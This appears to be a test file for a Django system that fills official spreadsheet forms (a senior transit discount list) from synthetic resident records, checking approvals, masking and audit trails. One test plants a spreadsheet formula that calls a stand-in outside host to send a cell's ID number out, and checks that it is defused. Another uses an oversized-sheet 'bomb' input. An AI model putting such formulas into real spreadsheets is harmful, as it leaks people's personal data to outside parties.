@@ -1,0 +1,287 @@
+"""The transit company's sheet: registered by two people, filled, released by name; the resident reads who and why."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from pathlib import Path
+
+import pytest
+from django.apps import apps
+from django.conf import LazySettings
+from openpyxl import Workbook, load_workbook
+
+from benchmarks import bench_forms, form_templates
+from kuai.flows.demo_forms import LENDING, seed_demo_forms
+from kuai.guard import access
+from kuai.guard.ledger import list_entries_about
+from kuai.guard.queries import find_actor_by_login
+from kuai.guard.types import Actor, Role, SourceRegistration, Zone
+from kuai.kit.clock import local_day, utc_now
+from kuai.kit.errors import DataFault, Refusal
+from kuai.kit.store import Store
+from kuai.services.forms import actions, queries
+from kuai.services.forms.types import FormWish
+from kuai.sources.form_sheets import read_form
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+NOW = utc_now()
+REASON = "年度乘车优待办理"
+SOURCES = (*LENDING, "access_cards", "hotline_requests", "inspections")
+
+
+@pytest.fixture
+def office(own_store: Path, settings: LazySettings) -> Store:
+    """The town's store with demo logins, and sources whose agreements allow forms."""
+    store = Store(own_store)
+    settings.STORE = store
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+    access.load_purposes()
+    steward = Actor(user_id="demo-data-steward", role=Role.DATA_STEWARD)
+    for source in SOURCES:
+        access.register_source(a_registration(source), by=steward, at=NOW)
+    access.register_source(a_registration("disability_cards", Zone.CARE), by=steward, at=NOW)
+    access.create_demo_accounts((), synthetic=True, at=NOW)
+    for app in ("registry", "services_forms"):
+        apps.get_app_config(app).ready()
+    return store
+
+
+def a_registration(source: str, zone: Zone = Zone.CORE) -> SourceRegistration:
+    return SourceRegistration(
+        source=source,
+        title=source,
+        zone=zone,
+        handler="演示部门",
+        legal_basis="合成数据",
+        agreement="合成数据包",
+        permitted_purposes=("record_review",),
+        notice_version="synthetic",
+        assessment_id="",
+        assessment_approved_on=None,
+        retention_days=730,
+        refresh_days=31,
+        has_personal_columns=True,
+        synthetic=True,
+    )
+
+
+def login(role: str) -> Actor:
+    actor = find_actor_by_login(f"demo-{role}")
+    assert actor is not None
+    return actor
+
+
+def a_blank(*headings: str) -> bytes:
+    book = Workbook()
+    book.active["A1"] = "老年人乘车优待名单"
+    book.active.merge_cells("A1:G1")
+    book.active.append(
+        list(headings)
+        or ["序号", "姓名", "身份证号", "出生日期", "住址", "联系电话", "是否送达到户"]
+    )
+    book.active["A6"] = "填表人："
+    return saved(book)
+
+
+def saved(book: Workbook) -> bytes:
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def fill(store: Store, number: str, content: bytes, name: str = "名单.xlsx") -> tuple[str, bytes]:
+    clerk = login("subdistrict-clerk")
+    filling = actions.prepare_filling(
+        store, number, content, file_name=name, by=clerk, at=utc_now()
+    )
+    _, filled = actions.release_filling(store, filling, reason=REASON, by=clerk, at=utc_now())
+    return filling, filled
+
+
+def sixty_this_year(town: Path) -> set[tuple[str, str]]:
+    """Name and birth of whom the truth knows as turning sixty, where the register of residents names them."""
+    with (town / "truth/rows.csv").open(encoding="utf-8") as rows:
+        registered = {
+            row["person_id"]
+            for row in csv.DictReader(rows)
+            if row["resource"] == "police_residents"
+        }
+    with (town / "truth/persons.csv").open(encoding="utf-8") as persons:
+        return {
+            (row["name"], row["birth_date"])
+            for row in csv.DictReader(persons)
+            if row["birth_date"][:4] == str(NOW.year - 60) and row["person_id"] in registered
+        }
+
+
+def test_the_blank_sheet_comes_back_with_everybody_who_turns_sixty(
+    office: Store, town: Path
+) -> None:
+    number = seed_demo_forms(at=NOW)
+    filling, filled = fill(office, number, a_blank())
+    book = load_workbook(io.BytesIO(filled))
+    sheet = book.worksheets[0]
+    rows = [row for row in sheet.iter_rows(min_row=3, values_only=True) if isinstance(row[0], int)]
+    listed = {(row[1], row[3]) for row in rows if row[1]}
+    assert rows
+    assert listed == sixty_this_year(town)
+    # The number is nobody's to write, the yes or no is all that the care zone says, the note moved below the list.
+    assert {row[2] for row in rows} == {None}
+    assert {row[6] for row in rows} <= {"是", "否"}
+    assert sheet.cell(3 + len(rows), 1).value == "填表人："
+    assert "A1:G1" in {str(one) for one in sheet.merged_cells.ranges}
+    assert book.sheetnames[1:] == ["来源说明", "待问清单"]
+    lines = book["来源说明"].iter_rows(values_only=True)
+    told = [row for row in lines if row[4] and row[5] != "状态"]
+    assert {row[5] for row in told} <= {"有登记，未核实", "登记已旧，请核对", "新且已核实"}
+
+    # The person concerned reads at once which list they were put on, for whom; the auditor reads no value.
+    view = queries.view_filling(office, filling, by=login("subdistrict-clerk"), on=NOW.date())
+    from kuai.services.forms.models import FormFilling
+
+    row = FormFilling.objects.get(uuid=filling)
+    assert len(row.subjects) == view.rows == len(rows)
+    for code in row.subjects:
+        entries = list_entries_about(code, at=utc_now()).entries
+        listing = next(one for one in entries if one.action == "form.listed")
+        assert {"name", "birth_date", "deliver_home"} <= set(listing.fields)
+        released = queries.find_released_list(listing.ticket_id)
+        assert released is not None
+        assert (released.title, released.office) == ("老年人乘车优待名单", "公交集团")
+        assert any(one.action == "form.prepared" for one in entries)
+
+    # The same layout again needs nobody's hand but the release.
+    again = actions.prepare_filling(
+        office,
+        number,
+        a_blank(),
+        file_name="再来.xlsx",
+        by=login("subdistrict-clerk"),
+        at=utc_now(),
+    )
+    shown = queries.view_filling(office, again, by=login("subdistrict-clerk"), on=NOW.date())
+    assert shown.is_learned
+    # A preview shows masks alone and asks the care zone nothing.
+    for cells in shown.sample:
+        assert cells[1].text.endswith("*")
+        assert cells[3].text.endswith("-**-**")
+        assert (cells[2].text, cells[6].text) == ("", "")
+
+
+def test_a_form_takes_two_people_and_its_basis(office: Store) -> None:
+    steward, approver = login("data-steward"), login("department-clerk")
+    clerk = login("subdistrict-clerk")
+    with pytest.raises(Refusal, match="最高级别"):
+        actions.register_form(a_wish(fields=("person.id_number",)), by=steward, at=NOW)
+    with pytest.raises(Refusal, match="为什么要上门送"):
+        actions.register_form(a_wish(fields=("person.deliver_home",)), by=steward, at=NOW)
+    with pytest.raises(Refusal, match="用途"):
+        actions.register_form(a_wish(purpose="block_statistics"), by=steward, at=NOW)
+    with pytest.raises(Refusal, match="数据管理员"):
+        actions.register_form(a_wish(), by=clerk, at=NOW)
+    number = actions.register_form(a_wish(), by=steward, at=NOW)
+    with pytest.raises(Refusal, match="还没有批准"):
+        fill(office, number, a_blank("姓名", "出生日期"))
+    with pytest.raises(Refusal, match="自己批准"):
+        actions.decide_form(number, "approved", reason="相符", by=steward, at=NOW)
+    actions.decide_form(number, "approved", reason="相符", by=approver, at=NOW)
+    actions.decide_form(number, "withdrawn", reason="不再需要", by=approver, at=NOW)
+    with pytest.raises(Refusal, match="已经撤销"):
+        fill(office, number, a_blank("姓名", "出生日期"))
+
+
+def a_wish(**changes: object) -> FormWish:
+    plain: dict[str, object] = {
+        "title": "情况表",
+        "office": "某局",
+        "basis": "职责清单第三项",
+        "approval_no": "文号一",
+        "about": "person",
+        "fields": ("person.name", "person.birth_date"),
+        "area": "",
+        "purpose": "proactive_benefit",
+        "expires_on": date(NOW.year + 1, 6, 1),
+    }
+    return FormWish(**{**plain, **changes})  # type: ignore[arg-type]
+
+
+def test_given_cells_stay_and_formulas_that_call_out_are_taken_down(
+    office: Store, town: Path
+) -> None:
+    seed_demo_forms(at=NOW)
+    truth = bench_forms.read_truth(town)
+    key, one = next(
+        (key, one)
+        for key, one in sorted(truth.persons.items())
+        if one["held"] and next(iter(one["person.birth_date"])) < "2000"
+    )
+    book = Workbook()
+    book.active.append(["姓名", "身份证号", "性别", "出生日期", "备注"])
+    other = "女" if "男" in one["person.sex"] else "男"
+    name = next(iter(one["person.name"]))
+    book.active.append([name, truth.numbers[key], other, "", '=WEBSERVICE("http://x/"&A2)'])
+    number = actions.register_form(
+        a_wish(fields=("person.name", "person.sex", "person.birth_date")),
+        by=login("data-steward"),
+        at=NOW,
+    )
+    actions.decide_form(number, "approved", reason="相符", by=login("department-clerk"), at=NOW)
+    _, filled = fill(office, number, saved(book))
+    back = load_workbook(io.BytesIO(filled))
+    row = [cell.value for cell in back.worksheets[0][2]]
+    assert row[:4] == [name, truth.numbers[key], other, next(iter(one["person.birth_date"]))]
+    assert back.worksheets[0]["E2"].data_type == "s"
+    asked = [str(cells[3]) for cells in back["待问清单"].iter_rows(min_row=2, values_only=True)]
+    assert any("性别与登记不一致" in text for text in asked)
+    assert any("公式" in text for text in asked)
+
+
+def test_an_unregistered_form_gets_tens_and_a_letter(office: Store) -> None:
+    clerk = login("subdistrict-clerk")
+    one_row = Workbook()
+    one_row.active.append(["姓名", "住址"])
+    one_row.active.append(["某某", "某处"])
+    told = [
+        queries.count_coverage(office, content, file_name="a.xlsx", about="person", by=clerk)
+        for content in (a_blank("姓名", "住址"), saved(one_row))
+    ]
+    # Whoever stands on the sheet, the answer is the same: it tells of the ground, not of them.
+    assert told[0] == told[1]
+    assert all(one.known is not None and one.known % 10 == 0 for one in told[0])
+    letter = actions.write_refusal_letter(
+        title="某情况统计表",
+        office="某局",
+        fields=("person.name",),
+        reasons=("not_registered", "no_basis"),
+        by=clerk,
+        at=NOW,
+    )
+    assert actions.read_letter(letter).startswith(b"%PDF")
+
+
+def test_a_cell_far_out_is_refused_by_name(office: Store) -> None:
+    book = Workbook()
+    book.active["A1"] = "姓名"
+    book.active["XFD1048576"] = "x"
+    with pytest.raises(DataFault, match="1048576"):
+        read_form(office, saved(book), file_name="bomb.xlsx")
+
+
+def test_sheets_of_many_layouts_come_back_filled_and_right(office: Store, town: Path) -> None:
+    """A quick version of benchmarks/bench_forms.py, on a smaller town and fewer layouts."""
+    seed_demo_forms(at=NOW)
+    truth = bench_forms.read_truth(town)
+    chosen = {
+        "two-line heading, groups", "stacked cards", "CSV in GB18030", "by household, merged",
+        "rooms by written address", "firms by name, three lines",
+    }  # fmt: skip
+    made = [one for one in form_templates.make_templates(truth, rows=12) if one.name in chosen]
+    assert len(made) == len(chosen)
+    results = [bench_forms._measure_one(one, truth) for one in made]
+    summed = bench_forms.summary(results)
+    assert summed["filled_share"] >= 0.9, results
+    assert summed["right_share"] >= 0.99, results
+    assert local_day(NOW) >= date(2026, 1, 1)
